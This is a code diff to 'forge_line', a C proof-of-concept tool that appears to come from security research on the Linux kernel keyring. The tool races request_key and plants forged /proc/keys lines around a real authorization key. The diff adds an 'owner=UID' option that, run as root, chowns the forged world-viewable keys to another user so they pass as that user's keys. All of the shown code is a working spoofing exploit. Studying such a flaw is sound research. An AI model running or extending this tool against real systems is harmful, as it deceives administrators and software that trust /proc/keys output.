@@ -2,7 +2,7 @@
  * forge_line: a requester that plants forged /proc/keys lines for its own
  * authorization key (issue 20, item 1).
  *
- *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only]
+ *   forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only | owner=UID]
  *
  * One thread calls request_key("user", DESCRIPTION, CALLOUT) into the
  * process keyring. The main thread polls /proc/keys for the authorization
@@ -14,6 +14,8 @@
  * With "owner-only" the keys go into the user keyring instead (which a
  * request made in a session keyring of its own does not search), with the
  * kernel's default permissions: only their owner's uid may view them.
+ * With "owner=UID" (run as root) they are viewable by everyone, as
+ * before, and then given to UID: another user's keys.
  *
  * Prints "forged <n> before <m>" (keys planted; how many sort before the
  * real line) or "forged 0 before 0" when the line was not seen in time,
@@ -79,15 +81,18 @@ static size_t read_keys(char *buf, size_t cap)
 
 int main(int argc, char **argv)
 {
-	if (argc != 5 && !(argc == 6 && strcmp(argv[5], "owner-only") == 0)) {
-		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only]\n");
+	long give_to = -1;
+	if (argc == 6 && strncmp(argv[5], "owner=", 6) == 0)
+		give_to = strtol(argv[5] + 6, NULL, 10);
+	if (argc != 5 && !(argc == 6 && (strcmp(argv[5], "owner-only") == 0 || give_to >= 0))) {
+		fprintf(stderr, "usage: forge_line DESCRIPTION CALLOUT VICTIM_TID NFORGE [owner-only | owner=UID]\n");
 		return 2;
 	}
 	desc = argv[1];
 	callout = argv[2];
 	long victim = strtol(argv[3], NULL, 10);
 	int nforge = atoi(argv[4]);
-	int owner_only = argc == 6;
+	int owner_only = argc == 6 && give_to < 0;
 	long ring = owner_only ? KEY_SPEC_USER_KEYRING : KEY_SPEC_PROCESS_KEYRING;
 	long perm = 0x3f3f3f3f;
 	if (nforge < 1 || nforge > 64)
@@ -128,6 +133,10 @@ int main(int argc, char **argv)
 				continue;
 			if (!owner_only)
 				syscall(SYS_keyctl, KEYCTL_SETPERM, id, perm);
+			if (give_to >= 0 && syscall(SYS_keyctl, KEYCTL_CHOWN, id, give_to, -1) != 0) {
+				syscall(SYS_keyctl, KEYCTL_INVALIDATE, id);
+				continue;
+			}
 			forged[planted++] = id;
 			if ((unsigned long)id < serial)
 				before++;
